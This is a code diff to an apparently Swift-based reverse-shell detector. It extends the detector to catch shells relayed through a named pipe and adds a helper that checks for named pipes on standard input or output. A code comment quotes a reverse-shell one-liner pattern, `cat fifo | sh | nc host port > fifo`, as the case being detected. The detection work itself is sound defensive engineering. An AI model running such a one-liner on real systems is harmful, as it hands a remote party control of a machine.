@@ -82,6 +82,13 @@ public struct ReverseShellDetector: Detector {
             input = input ?? peer
             output = output ?? peer
         }
+        // `cat fifo | sh | nc host port > fifo`: cat opens the fifo by name (not on its fds 0-2), so
+        // the input side is invisible; a networked peer that feeds a named pipe closes the loop.
+        if (input == nil) != (output == nil), let known = input ?? output, let relay = known.process,
+           let relayProc = context.state.process(relay), feedsNamedPipe(relayProc) {
+            input = input ?? known
+            output = output ?? known
+        }
         let launch = launchFor(proc, context: context)
         if (input == nil || output == nil), let launch {
             // The tool said it runs this program on its socket; its own socket may not be on 0-2.
@@ -182,6 +189,11 @@ public struct ReverseShellDetector: Detector {
             return Peer(process: proc.pid, address: c.address, port: c.port, viaSocket: false)
         }
         return nil
+    }
+
+    /// True when `proc` has a named pipe (a `pipe` whose target is a path) on fd 0 or 1.
+    private func feedsNamedPipe(_ proc: ProcessRecord) -> Bool {
+        (proc.info.fds ?? []).contains { ($0.fd == 0 || $0.fd == 1) && $0.kind == .pipe && $0.target.hasPrefix("/") }
     }
 
     private func isShellLike(_ info: ProcessInfo) -> Bool {
